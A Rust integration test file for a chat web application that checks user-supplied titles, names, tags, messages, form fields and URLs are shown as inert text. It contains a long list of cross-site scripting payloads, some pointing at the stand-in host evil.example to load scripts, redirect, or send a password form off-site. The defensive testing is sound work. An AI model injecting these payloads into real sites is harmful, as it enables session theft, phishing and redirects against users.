//! What people write is text: in titles, posts, tags, names and messages, on every page that shows them.

use chat_chat::server::names;
use serde_json::Value;

use crate::support::html::Html;
use crate::support::person::Answer;
use crate::support::{Person, TestApp, start};

/// Each has run somewhere: in a title, an attribute, a script's string, a textarea, or through somebody's markdown.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x onclick=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<plaintext>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](&#106&#97&#118;ascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript\u{ff1a}alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/api/logout)",
    "[x](https://good.example@evil.example)",
    "[x](https://evil.example\" onclick=\"alert(1))",
    "[x](https://evil.example/?a=\"><script>alert(1)</script>)",
    "[x](https://evil.example 'x\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/x.png\"onerror=\"alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onclick=alert(1)>",
    "https://evil.example/\"onmouseover=alert(1)//",
    "www.evil.example/<script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\\";alert(1);//",
    "\\\\\";alert(1);//",
    "\";alert(1);var x=\"",
    "\u{2028}alert(1)\u{2029}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{feff}<script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "x\u{202e}gpj.exe",
    "javascript:alert(1)",
];

fn cut(text: &str, max: usize) -> String {
    text.chars().take(max).collect()
}

/// What hides text or turns it around; in a name it is a disguise.
fn is_disguise(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Reads a string of a script up to its closing quote; what is in it and what follows it.
fn script_string(script: &str) -> (String, &str) {
    let mut rest = script.strip_prefix('"').expect("a string").char_indices();
    let mut text = String::new();
    while let Some((at, c)) = rest.next() {
        match c {
            '"' => return (text, &script[at + 2..]),
            '\n' | '\r' => panic!("a line ends within a string"),
            '\\' => match rest.next().expect("an escaped sign").1 {
                'n' => text.push('\n'),
                't' => text.push('\t'),
                'r' => text.push('\r'),
                'u' => {
                    let digits: String = if rest.as_str().starts_with('{') {
                        let digits = rest.as_str()[1..].split('}').next().unwrap().to_owned();
                        rest.nth(digits.len() + 1);
                        digits
                    } else {
                        rest.by_ref().take(4).map(|(_, c)| c).collect()
                    };
                    text.extend(char::from_u32(u32::from_str_radix(&digits, 16).expect("digits")));
                }
                plain @ ('"' | '\\' | '\'') => text.push(plain),
                other => panic!("\\{other} in a string"),
            },
            c => text.push(c),
        }
    }
    panic!("a string without an end")
}

/// The data that a page carries for its scripts; nothing else is in those scripts.
fn data_of(html: &Html) -> Vec<Value> {
    let mut data = Vec::new();
    for script in html.scripts.iter().filter(|script| script.starts_with("__RESOLVED_RESOURCES[")) {
        let mut rest = script.as_str();
        while !rest.is_empty() {
            let string = rest.find('"').expect("a string");
            let before: String = rest[..string].chars().filter(|c| !c.is_ascii_digit()).collect();
            assert_eq!(before, "__RESOLVED_RESOURCES[] = ", "{script}");
            let (text, after) = script_string(&rest[string..]);
            data.push(serde_json::from_str(&text).expect("JSON"));
            rest = after.strip_prefix(';').unwrap_or_else(|| panic!("{after} follows a string"));
        }
    }
    data
}

/// The page, after making sure that nothing in it runs but what is ours.
#[track_caller]
fn read(page: &Answer) -> Html {
    let html = Html::read(&page.text);
    html.expect_harmless(page.nonce());
    assert!(!data_of(&html).is_empty());
    for link in html.all("a").filter_map(|link| link.attribute("href")).filter(|href| href.starts_with("http")) {
        let link = reqwest::Url::parse(link).expect("an address");
        assert!(link.username().is_empty() && link.password().is_none(), "{link} is disguised");
    }
    html
}

/// Writes `payload` everywhere and looks at every page that shows it.
async fn expect_text(app: &TestApp, n: usize, payload: &str) {
    let author = Person::new(app);
    let typed_name = cut(payload, 40);
    // An @ in front of a word is kept for usernames.
    let name = if names::shows_handle(&typed_name) { "plain" } else { &typed_name };
    let fields = [("username", &*format!("author{n}")), ("password", "correct horse"), ("display_name", name)];
    let user = author.post("register", &fields).await.expect_status(200).json();
    let name = user["display_name"].as_str().unwrap();
    assert!(!name.contains(is_disguise), "{name:?}");

    let (title, tag) = (cut(payload, 120), cut(&payload.replace(',', ""), 20));
    let fields =
        [("title", &*title), ("body", payload), ("category", "tech"), ("tags", &tag), ("visibility", "public")];
    let room = author.post("create_room", &fields).await.expect_status(200).json();
    let (id, title) = (room["id"].to_string(), room["title"].as_str().unwrap());
    assert!(!title.contains(is_disguise), "{title:?}");
    author.post("post_message", &[("room", &id), ("body", payload)]).await.expect_status(200);
    let history = author.post("history", &[("room", &id)]).await.json();
    let visible = payload.replace('\u{1}', "");
    assert_eq!(history["messages"][0]["body"], *visible, "a message is kept as typed, but for control characters");

    let tags: Vec<String> =
        room["tags"].as_array().unwrap().iter().map(|tag| format!("#{}", tag.as_str().unwrap())).collect();
    let visitor = app.visitor();
    let page = visitor.get(&format!("/rooms/{id}")).await.expect_status(200);
    let html = read(&page);
    let titles: Vec<_> = html.all("title").map(|title| &*title.text).collect();
    assert_eq!(titles, [format!("{title} · Chat Chat")]);
    assert_eq!(html.all("h1").map(|heading| &*heading.text).collect::<Vec<_>>(), [title]);
    assert!(html.shows(name), "{name:?} as the author");
    assert!(tags.iter().all(|tag| html.shows(tag)), "{tags:?}");
    let message = html.only("div", "data-part", "body");
    let is_html = payload.starts_with("<script>") || payload.starts_with("<img");
    if is_html && !payload.contains('`') {
        assert_eq!(message.text, payload, "HTML is text like any other");
    }
    let data = data_of(&html);
    let carried = data.iter().find_map(|data| data.pointer("/1/Ok/room/title"));
    assert_eq!(carried, Some(&Value::from(title)), "what hydrates is what was stored");

    // The newest room is the first of the lobby.
    let html = read(&visitor.get("/").await.expect_status(200));
    let card = html.all("article").next().expect("a card");
    assert_eq!(card.attribute("data-room"), Some(&*id));
    assert!(html.shows(title) && tags.iter().all(|tag| html.shows(tag)));

    for path in ["/settings", "/login", &format!("/users/author{n}")] {
        let html = read(&author.get(path).await);
        assert!(html.only("a", "data-testid", "me").text.ends_with(name), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_stored_runs() {
    let (app, _db) = start().await;
    // Each as it is, behind what would end the elements it could stand in, and as the target of a link.
    let dressed = PAYLOADS.iter().flat_map(|payload| {
        [(*payload).to_owned(), format!("\"'></a></title></textarea></script>{payload}"), format!("[x]({payload})")]
    });
    for (n, payload) in dressed.enumerate() {
        expect_text(&app, n, &payload).await;
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_shown_again_in_a_form_runs() {
    let (app, _db) = start().await;
    let alice = app.person("alice").await;
    let room = alice.room("Tea", "public").await.to_string();
    let too_long = "x".repeat(4_001);
    for &payload in PAYLOADS {
        // Refused for its category, with everything that was typed.
        let fields = [
            ("title", payload),
            ("body", payload),
            ("tags", payload),
            ("category", payload),
            ("visibility", payload),
            ("nonce", payload),
            ("next", payload),
            ("unknown", payload),
        ];
        let page = alice.submit("create_room", &fields).await;
        assert!([400, 422].contains(&page.status), "{payload}: {}", page.text);
        let html = read(&page);
        for field in ["title", "tags"] {
            assert_eq!(html.only("input", "name", field).attribute("value"), Some(payload));
        }
        assert_eq!(html.only("textarea", "name", "body").text, payload);

        let body = format!("{payload}{too_long}");
        let fields = [("room", &*room), ("body", &body), ("nonce", payload), ("next", payload)];
        let page = alice.submit("post_message", &fields).await;
        assert!([400, 422].contains(&page.status), "{payload}: {}", page.status);
        assert_eq!(read(&page).only("textarea", "name", "body").text, body);

        let fields = [("username", payload), ("password", payload), ("display_name", payload), ("next", payload)];
        for name in ["register", "login"] {
            let page = app.visitor().submit(name, &fields).await;
            assert!((400..500).contains(&page.status), "{name} {payload}: {}", page.status);
            assert_eq!(read(&page).only("input", "name", "username").attribute("value"), Some(payload));
        }
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_stands_in_an_address_runs() {
    let (app, _db) = start().await;
    let room = app.person("alice").await.room("Tea", "public").await;
    for &payload in PAYLOADS {
        let encoded: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for path in [
            format!("/{encoded}"),
            format!("/rooms/{encoded}"),
            format!("/rooms/{room}-{encoded}"),
            format!("/rooms/{room}?before={encoded}&after={encoded}&chain={encoded}"),
            format!("/rooms/{room}/messages/{encoded}"),
            format!("/rooms/{room}-{encoded}/messages/1"),
            format!("/users/{encoded}"),
            format!("/?sort={encoded}"),
            format!("/?category={encoded}"),
            format!("/?tag={encoded}"),
            format!("/?before={encoded}"),
            format!("/?{encoded}={encoded}"),
            format!("/search?q={encoded}"),
            format!("/login?next={encoded}"),
            format!("/register?next=%2F{encoded}"),
        ] {
            let page = app.visitor().get(&path).await;
            assert!((200..500).contains(&page.status), "{path}: {}", page.status);
            if !page.header("location").is_empty() {
                assert!(page.header("location").starts_with("/rooms/"), "{path}: {}", page.header("location"));
                continue;
            }
            read(&page);
        }
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_for_programs_are_never_taken_for_pages() {
    let (app, _db) = start().await;
    let alice = app.person("alice").await;
    let script = "<script>alert(1)</script>";
    let room = alice.room(script, "public").await.to_string();
    for (name, fields) in [
        ("rooms", vec![]),
        ("open_room", vec![("room", &*room)]),
        ("rooms", vec![("sort", script)]),
        ("login", vec![("username", script), ("password", script)]),
        (script, vec![]),
    ] {
        let answer = alice.post(name, &fields).await;
        assert_eq!(answer.header("content-type"), "application/json", "{name}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{name}");
        assert!(answer.header("content-security-policy").starts_with("default-src 'none'"), "{name}");
    }
    app.stop().await;
}
